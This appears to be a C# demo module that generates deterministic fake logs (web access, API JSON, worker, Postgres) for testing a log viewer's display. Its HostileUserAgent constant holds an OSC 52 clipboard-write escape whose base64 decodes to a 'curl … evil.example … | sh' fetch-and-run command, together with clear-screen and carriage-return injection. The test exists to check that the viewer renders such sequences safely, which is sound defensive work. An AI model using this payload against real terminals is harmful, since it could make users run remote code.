using System.Globalization;
using System.Text;

namespace Styx.Demo.Model;

/// <summary>
/// What a task writes, second by second since it first started: one stdout line per simulated second while it runs
/// (and one stderr line every 20 s), in the style of the job: access log (web, traefik), JSON log (api), worker
/// progress, Postgres. The text of second n is a pure function of the allocation, task and n, so the same seed gives
/// the same log.
/// </summary>
/// <remarks>
/// Two things are there on purpose, for the Logs screen and its tests:
/// <list type="bullet">
/// <item>web's stdout mixes plain access lines with a JSON error line every 10 s (seconds 7, 17, 27…:
/// <c>{"level":"error",…,"msg":"upstream timed out",…}</c>), so <c>/error</c> finds web matches within seconds and JSON
/// rendering is exercised on a mixed log.</item>
/// <item>every 30 s from second 5 (5, 35, 65…) web's access line carries a hostile User-Agent: an OSC 52 clipboard write
/// (<c>ESC ] 52 ; c ; base64 BEL</c>), a clear screen (<c>ESC [ 2 J</c>) and a bare carriage return in the middle of the
/// line. Attackers really put escape sequences in User-Agent headers; Styx must show these as visible text
/// (<c>Styx.Cluster.Text.ControlCharacters</c>), never pass them to a terminal.</item>
/// </list>
/// </remarks>
internal static class DemoLogs
{
    /// <summary>What the hostile User-Agent would put on the clipboard of a terminal that obeyed it.</summary>
    public static readonly string HostileClipboard = Convert.ToBase64String(Encoding.ASCII.GetBytes("curl -s https://evil.example/x | sh"));

    /// <summary>The hostile User-Agent of web's access lines at seconds 5, 35, 65…</summary>
    public static readonly string HostileUserAgent = $"Mozilla/5.0 \u001b]52;c;{HostileClipboard}\u0007\u001b[2J\rcurl/8.5.0";

    private static readonly string[] s_paths = ["/", "/login", "/api/orders", "/api/orders/42", "/static/app.js", "/health", "/api/cart"];

    /// <summary>Seconds between stderr lines.</summary>
    public const int StderrEvery = 20;

    /// <summary>The line a task writes at second <paramref name="n"/> after it first started, or null when it writes none.</summary>
    public static string? Line(DemoTaskLog log, bool stderr, long n, DateTimeOffset at)
    {
        if (stderr && n % StderrEvery != 0)
        {
            return null;
        }

        var hash = (uint)DemoStats.StableHash(log.AllocationId + log.Task + n.ToString(CultureInfo.InvariantCulture));
        var time = at.UtcDateTime.ToString("yyyy-MM-dd'T'HH:mm:ss.fff'Z'", CultureInfo.InvariantCulture);
        if (stderr)
        {
            return n == 0
                ? $"{time} WARN {log.Task}: starting with {log.MemoryMB} MB memory limit"
                : $"{time} WARN {log.Task}: slow operation took {200 + hash % 1800} ms";
        }

        var path = s_paths[hash % (uint)s_paths.Length];
        var status = hash % 97 == 0 ? 500 : hash % 13 == 0 ? 404 : 200;
        return log.JobId switch
        {
            "web" when n % 10 == 7 =>
                $"{{\"level\":\"error\",\"ts\":\"{time}\",\"msg\":\"upstream timed out\",\"upstream\":\"api:8080\",\"request_id\":\"{hash:x8}{n:x4}\",\"duration_ms\":{5000 + hash % 2000}}}",
            "web" or "traefik" =>
                $"100.64.0.{hash % 40 + 2} - - [{time}] \"GET {path} HTTP/1.1\" {status} {hash % 20000} \"-\" \"{(log.JobId == "web" && n % 30 == 5 ? HostileUserAgent : "Mozilla/5.0")}\"",
            "api" => $"{{\"level\":\"{(status == 500 ? "error" : "info")}\",\"ts\":\"{time}\",\"msg\":\"request handled\",\"route\":\"{path}\",\"status\":{status},\"duration_ms\":{hash % 250}}}",
            "worker" => $"{time} INFO worker: processed job {n + 1000} from queue orders in {hash % 900 + 20} ms",
            "postgres" => $"{time} UTC [{hash % 900 + 100}] LOG:  {(n % 300 == 0 ? "checkpoint starting: time" : "duration: " + (hash % 50) + ".123 ms  statement: SELECT 1")}",
            _ => $"{time} level=info component={log.Task} msg=\"tick {n}\"",
        };
    }

    /// <summary>
    /// A burst line: a contiguous per-(allocation, task) sequence number, so a consumer can prove no line was lost,
    /// padded to about 100 bytes like a typical log line.
    /// </summary>
    public static string BurstLine(DemoTaskLog log, long sequence, DateTimeOffset at)
    {
        var text = string.Create(CultureInfo.InvariantCulture,
            $"{at.UtcDateTime:yyyy-MM-dd'T'HH:mm:ss.fffffff'Z'} burst seq={sequence} alloc={log.AllocationId[..Math.Min(8, log.AllocationId.Length)]} task={log.Task} ");
        return text.Length >= 100 ? text : text + new string('.', 100 - text.Length);
    }
}
